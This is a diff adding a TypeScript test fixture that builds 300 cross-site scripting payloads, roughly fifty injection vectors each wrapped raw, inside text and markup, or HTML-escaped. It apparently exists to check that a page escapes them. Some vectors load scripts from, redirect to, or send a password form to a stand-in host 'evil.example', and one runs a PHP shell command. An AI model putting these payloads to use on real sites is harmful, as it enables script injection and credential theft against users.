@@ -1,0 +1,70 @@
+/** Texts with which a hostile or careless host would run something in the page. */
+const vectors = [
+  '<script>alert(1)</script>',
+  '<script src=//evil.example/x.js></script>',
+  '<ScRiPt>alert(1)</sCrIpT >',
+  '<script>alert(1)',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x onerror="alert(1)"',
+  '<img/src=x/onerror=alert(1)>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<img src=x onerror=alert(1)>">',
+  '<a href="javascript:alert(1)">press</a>',
+  '<a href=" &#106;avascript:alert(1)">press</a>',
+  '<body onload=alert(1)>',
+  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></math>',
+  '<details open ontoggle=alert(1)>x</details>',
+  '<style>@import url(//evil.example)</style>',
+  '<link rel=stylesheet href=//evil.example>',
+  '<meta http-equiv=refresh content="0;url=//evil.example">',
+  '<base href=//evil.example>',
+  '<form action=//evil.example><input name=password></form>',
+  '<object data="data:text/html,<script>alert(1)</script>"></object>',
+  '<embed src="javascript:alert(1)">',
+  '<video><source onerror=alert(1)></video>',
+  '<template><script>alert(1)</script></template>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<!--<img src="--><img src=x onerror=alert(1)>">',
+  '<!-- never closed <img src=x onerror=alert(1)>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<?php system("id") ?>',
+  '<!DOCTYPE html><html><body>critical error</body></html>',
+  '<<script>script>alert(1)<</script>/script>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<<<b>b>img src=x onerror=alert(1)>',
+  '"><img src=x onerror=alert(1)>',
+  "'-alert(1)-'",
+  '</title><script>alert(1)</script>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<\u200bscript>alert(1)</script>',
+  '<\u0000script>alert(1)</script>',
+  '\u202egnp.<script>alert(1)</script>',
+  '<table background="javascript:alert(1)">',
+  '<x contenteditable onblur=alert(1)>lose focus',
+  '<button formaction=javascript:alert(1)>x',
+  '<input autofocus onfocus=alert(1)>',
+  '<select autofocus onfocus=alert(1)>',
+  '<keygen autofocus onfocus=alert(1)>',
+  '<p style="background:url(javascript:alert(1))">',
+  '<div data-x="<script>alert(1)</script>">',
+]
+
+const escaped = (text: string) => text.replace(/[&<>"']/g, (each) => `&#${each.charCodeAt(0)};`)
+const named = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
+
+const wrappings: Record<string, (vector: string) => string> = {
+  'as it is': (vector) => vector,
+  'in a sentence': (vector) => `The user ${vector} is unknown.`,
+  'in markup': (vector) => `<strong>Error:</strong> ${vector} <em>again</em>`,
+  escaped,
+  'escaped by name': named,
+  'escaped twice': (vector) => named(named(vector)),
+}
+
+/** 300 texts that a page must never take for markup, each with its name. */
+export const payloads = Object.entries(wrappings).flatMap(([name, wrap]) =>
+  vectors.map((vector): [string, string] => [`${name}: ${vector}`, wrap(vector)]),
+)
